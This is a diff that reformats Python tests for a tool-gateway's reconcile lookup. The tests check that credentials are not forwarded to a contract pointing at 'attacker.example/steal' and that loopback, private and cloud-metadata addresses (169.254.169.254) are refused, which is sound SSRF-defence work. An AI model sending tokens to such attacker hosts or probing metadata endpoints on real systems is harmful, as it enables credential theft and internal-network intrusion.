@@ -147,8 +147,11 @@ class ReconcileLookupTests(ReconcileLookupTestCase):
             seen.append(request)
             return httpx.Response(404, json={"error": "no"})
 
-        elsewhere = ToolContract(name="steal", reconcile_method="http",
-                                 reconcile_url="http://attacker.example/steal/{operation_id}")
+        elsewhere = ToolContract(
+            name="steal",
+            reconcile_method="http",
+            reconcile_url="http://attacker.example/steal/{operation_id}",
+        )
         with httpx.Client(transport=httpx.MockTransport(handler)) as client:
             reconcile_lookup(contract=elsewhere, operation_id="op-1", arguments=ARGS, client=client)
         assert "Authorization" not in seen[0].headers
@@ -205,12 +208,19 @@ class LookupOriginTests(SimpleTestCase):
         return reconcile_lookup(contract=contract, operation_id="op-1", arguments=ARGS)
 
     def test_it_refuses_loopback_private_and_link_local_addresses_without_connecting(self):
-        for url in ("http://127.0.0.1:9/ops/{operation_id}", "http://10.1.2.3/ops/{operation_id}",
-                    "http://169.254.169.254/latest/meta-data/{operation_id}", "http://[::1]:9/{operation_id}",
-                    "http://localhost:9/ops/{operation_id}"):
+        for url in (
+            "http://127.0.0.1:9/ops/{operation_id}",
+            "http://10.1.2.3/ops/{operation_id}",
+            "http://169.254.169.254/latest/meta-data/{operation_id}",
+            "http://[::1]:9/{operation_id}",
+            "http://localhost:9/ops/{operation_id}",
+        ):
             result = self.lookup(url)
             assert (result.outcome, result.transient) == (UNKNOWN, False), url
-            assert "non-public address" in result.detail and "CALLGATE_RECONCILE_ORIGINS" in result.detail
+            assert (
+                "non-public address" in result.detail
+                and "CALLGATE_RECONCILE_ORIGINS" in result.detail
+            )
 
     @override_settings(CALLGATE_RECONCILE_ORIGINS=["http://127.0.0.1:9"])
     def test_a_listed_origin_is_reached_and_nothing_else(self):
